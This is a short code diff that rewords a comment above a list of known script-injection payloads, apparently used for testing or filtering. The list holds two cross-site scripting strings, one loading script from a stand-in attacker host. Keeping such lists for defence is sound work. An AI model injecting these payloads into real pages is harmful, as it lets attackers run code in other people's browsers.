@@ -1,4 +1,4 @@
-/** Ways in which people have tried to get script into pages, as they go round in cheat sheets and advisories. */
+/** Known attempts at script injection. */
 export const SCRIPT_PAYLOADS = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
